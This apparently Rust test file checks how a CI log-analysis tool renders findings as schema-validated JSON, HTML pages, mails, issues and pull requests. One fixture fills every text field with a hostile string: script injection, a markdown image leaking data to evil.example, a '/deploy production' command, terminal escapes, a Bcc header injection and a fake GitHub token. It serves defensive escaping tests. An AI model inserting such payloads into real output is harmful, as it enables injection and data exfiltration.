use std::time::Duration;

use shared::outbound::Outbound;

use super::*;
use crate::analysis::{Category, FailedStep, Range};
use crate::github::Marker;
use crate::repository::{Branch, Sha};

const COMMIT: &str = "3f2c1d0e9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e";

fn quotes(lines: &[(u64, &str)]) -> Vec<Quote> {
    let quote = |(number, text): &(u64, &str)| Quote {
        number: *number,
        text: (*text).to_owned(),
    };
    lines.iter().map(quote).collect()
}

fn thread(number: u64, is_pull_request: bool) -> Thread {
    Thread {
        number,
        is_pull_request,
        is_open: true,
    }
}

fn found_by(base: Option<&str>) -> Marker {
    Marker {
        fingerprint: "5f1c02d9a3b4e677".to_owned(),
        base: base.and_then(Sha::parse),
    }
}

/// The disk of a runner was full; GitHub was not asked, no model either.
fn by_rules() -> Finding {
    Finding {
        repository: Repository::parse("acme/shop").unwrap(),
        site: Site::default(),
        object: Object {
            bucket: "medic-ci-logs".to_owned(),
            key: "logs/acme/shop/42-1-image.txt.gz".to_owned(),
        },
        page: Some(Object {
            bucket: "medic-ci-logs".to_owned(),
            key: "analysis/acme/shop/42-1-image.html".to_owned(),
        }),
        at: "2026-11-20T10:11:12Z".parse().unwrap(),
        run: None,
        job: Some("image".to_owned()),
        analysis: Analysis {
            total_lines: 912,
            failed_steps: vec![FailedStep {
                name: "Run docker build .".to_owned(),
                number: 3,
                exit_code: Some(1),
            }],
            decisive: Some(Range {
                start: 880,
                end: 880,
            }),
            excerpt: vec![Range {
                start: 879,
                end: 881,
            }],
            category: Category::Resource,
            confidence: 0.93,
            rule: Some("disk-full".to_owned()),
            cause: "The disk is full: write /var/lib/docker/overlay2/l: no space left on device"
                .to_owned(),
            fingerprint: "5f1c02d9a3b4e677".to_owned(),
            truncated: true,
            redactions: 1,
        },
        quotes: quotes(&[
            (879, "#11 [builder 4/6] RUN cargo build --release"),
            (
                880,
                "#11 ERROR: write /var/lib/docker/overlay2/l: no space left on device",
            ),
            (881, "##[error]buildx failed with: ERROR: failed to solve"),
        ]),
        advice: Some(
            "Free space before the build (`docker system prune`), or take a larger runner."
                .to_owned(),
        ),
        problem: Some("the archive is damaged after 912 lines".to_owned()),
        diagnosis: None,
        attempts: Vec::new(),
        patch: Patch::None,
        outcome: Outcome::Opened(thread(17, false)),
        seen: 1,
        troubles: Vec::new(),
        notes: Vec::new(),
    }
}

fn run() -> Run {
    Run {
        id: 7_000_000_001,
        attempt: 2,
        workflow: "CI / unit tests".to_owned(),
        head_sha: Sha::parse(COMMIT).unwrap(),
        head_branch: Branch::parse("feature/tax"),
        is_of_a_fork: false,
        is_ours: false,
        event: "pull_request".to_owned(),
        conclusion: Some("failure".to_owned()),
        pull_requests: vec![12],
        default_branch: Branch::parse("main").unwrap(),
    }
}

fn diagnosis() -> Diagnosis {
    Diagnosis {
        summary: "The total is cut to whole cents before the tax is added.".to_owned(),
        root_cause: "`total()` in cart.py uses int() where it should round.".to_owned(),
        category: Category::Code,
        confidence: 0.8,
        quote: "AssertionError: 19.99 != 20.0".to_owned(),
        quote_line: 206,
        suggestion: "Use round(amount, 2) at the end of total().".to_owned(),
    }
}

fn attempt() -> Attempt {
    Attempt {
        provider: "groq".to_owned(),
        model: "openai/gpt-oss-120b".to_owned(),
        outcome: "answered".to_owned(),
        input_tokens: 1_834,
        output_tokens: 212,
        cost_usd: Some(0.000_434),
        took: Duration::from_millis(1_240),
    }
}

/// A test failed; a model explained it and wrote a patch, which is proposed.
fn with_a_draft() -> Finding {
    Finding {
        run: Some(run()),
        job: Some("unit".to_owned()),
        object: Object {
            bucket: "medic-ci-logs".to_owned(),
            key: "logs/acme/shop/7000000001-2-unit.txt".to_owned(),
        },
        analysis: Analysis {
            total_lines: 214,
            failed_steps: vec![FailedStep {
                name: "Run python -m unittest".to_owned(),
                number: 5,
                exit_code: Some(1),
            }],
            decisive: Some(Range { start: 201, end: 206 }),
            excerpt: vec![Range { start: 201, end: 210 }],
            category: Category::Test,
            confidence: 0.95,
            rule: Some("python-unittest".to_owned()),
            cause: "A test failed (unittest): FAIL: test_total (test_cart.CartTest) … AssertionError: 19.99 != 20.0".to_owned(),
            truncated: false,
            redactions: 0,
            ..by_rules().analysis
        },
        quotes: quotes(&[
            (201, "FAIL: test_total (test_cart.CartTest.test_total)"),
            (203, "Traceback (most recent call last):"),
            (204, "  File \"/home/runner/work/shop/shop/test_cart.py\", line 12, in test_total"),
            (205, "    self.assertEqual(cart.total(), 20.0)"),
            (206, "AssertionError: 19.99 != 20.0"),
            (210, "FAILED (failures=1)"),
        ]),
        advice: Some("Run the test that is named alone: `python -m unittest test_cart.CartTest.test_total`.".to_owned()),
        problem: None,
        diagnosis: Some(diagnosis()),
        attempts: vec![attempt()],
        patch: Patch::Accepted {
            changes: vec![Change {
                path: "cart.py".to_owned(),
                is_new: false,
            }],
            diff: "--- a/cart.py\n+++ b/cart.py\n@@ -3 +3 @@\n-    return int(amount * 100) / 100\n+    return round(amount, 2)\n".to_owned(),
        },
        outcome: Outcome::Proposed(thread(31, true)),
        seen: 1,
        troubles: Vec::new(),
        notes: Vec::new(),
        ..by_rules()
    }
}

/// What an attacker would like to see survive, wherever a text is somebody else's.
const HOSTILE: &str = "</td><script>alert(1)</script>![x](https://evil.example/?d=QUtJ) @alice fixes #1 acme/shop@deadbeef1\n/deploy production\n::error::x\u{1b}]8;;https://evil.example\u{7}\u{202e}\r\nBcc: all@evil.example ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2";

fn hostile() -> Finding {
    let text = || HOSTILE.to_owned();
    let mut finding = with_a_draft();
    finding.analysis.cause = text();
    finding.analysis.rule = Some(text());
    finding.analysis.failed_steps[0].name = text();
    finding.advice = Some(text());
    finding.problem = Some(text());
    finding.job = Some(text());
    finding.object.key = text();
    finding.quotes = quotes(&[(201, HOSTILE), (206, HOSTILE)]);
    finding.patch = Patch::Refused(vec![
        text(),
        "it changes .github/workflows/ci.yml".to_owned(),
    ]);
    finding.outcome = Outcome::Commented(thread(17, false));
    finding.seen = 3;
    if let Some(run) = &mut finding.run {
        run.workflow = text();
        run.event = text();
    }
    finding.diagnosis = Some(Diagnosis {
        summary: text(),
        root_cause: text(),
        category: Category::Unknown,
        confidence: f64::NAN,
        quote: text(),
        quote_line: 206,
        suggestion: text(),
    });
    finding.attempts[0].model = text();
    finding.attempts[0].cost_usd = Some(f64::INFINITY);
    finding
}

fn findings() -> [(&'static str, Finding); 3] {
    [
        ("by_rules", by_rules()),
        ("with_a_draft", with_a_draft()),
        ("hostile", hostile()),
    ]
}

fn is_update_wanted() -> bool {
    std::env::var_os("UPDATE_SCHEMA").is_some()
}

#[test]
fn the_analysis_for_tools_has_the_published_form() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/analysis.schema.json");
    let current = schema().unwrap();
    if is_update_wanted() {
        std::fs::write(path, &current).unwrap();
    }
    let published = std::fs::read_to_string(path).unwrap();
    assert_eq!(current, published, "run this test with UPDATE_SCHEMA=1");
    let published = serde_json::from_str(&published).unwrap();
    let validator = jsonschema::validator_for(&published).unwrap();
    for (name, finding) in findings() {
        let document = document(&finding).unwrap();
        let value = serde_json::from_str(document.as_str()).unwrap();
        let faults: Vec<String> = validator
            .iter_errors(&value)
            .map(|fault| fault.to_string())
            .collect();
        assert_eq!(faults, Vec::<String>::new(), "{name}");
        insta::assert_snapshot!(format!("document_{name}"), document.as_str());
    }
}

#[test]
fn a_page_says_what_failed_what_was_done_and_what_a_model_thinks() {
    for (name, finding) in findings() {
        let page = page(&finding);
        let (_, body) = page.as_str().split_once("<body>").unwrap();
        insta::assert_snapshot!(format!("page_{name}"), body);
    }
}

#[test]
fn a_mail_has_the_essentials_first() {
    for (name, finding) in findings() {
        let mail = Outbound::from(&mail(&finding));
        insta::assert_snapshot!(
            format!("mail_{name}"),
            format!("Subject: {}\n\n{}", mail.subject(), mail.text())
        );
    }
}

#[test]
fn an_issue_tells_the_whole_story() {
    for (name, finding) in findings() {
        let Text { title, body } = issue(&finding, &found_by(None));
        insta::assert_snapshot!(
            format!("issue_{name}"),
            format!("{}\n\n{}", title.as_str(), body.as_str())
        );
    }
}

#[test]
fn a_pull_request_says_that_nobody_ran_it() {
    for (name, finding) in findings() {
        let Text { title, body } = pull_request(&finding, &found_by(Some(COMMIT)));
        insta::assert_snapshot!(
            format!("pull_request_{name}"),
            format!("{}\n\n{}", title.as_str(), body.as_str())
        );
    }
}

#[test]
fn comments_are_short() {
    for (name, finding) in findings() {
        let (trigger, repeat) = (
            triggering_comment(&finding, &found_by(None)),
            repeat_comment(&finding, &found_by(None)),
        );
        insta::assert_snapshot!(
            format!("comments_{name}"),
            format!("{}\n\n=====\n\n{}", trigger.as_str(), repeat.as_str())
        );
    }
}

#[test]
fn what_is_done_and_why_not_is_said_in_a_sentence() {
    for (outcome, expected) in [
        (
            Outcome::Proposed(thread(1, true)),
            "Draft pull request #1 proposes a change that nobody has run or read yet.",
        ),
        (Outcome::Opened(thread(2, false)), "Issue #2 was opened."),
        (
            Outcome::Commented(thread(3, true)),
            "It was seen before: a comment was added to pull request #3.",
        ),
        (
            Outcome::Known(thread(4, false)),
            "It was seen before: issue #4 is about it.",
        ),
        (
            Outcome::Nothing("this is a dry run".to_owned()),
            "Nothing was done on GitHub, because this is a dry run.",
        ),
    ] {
        assert_eq!(
            Finding {
                outcome,
                ..by_rules()
            }
            .done(),
            expected
        );
    }
}
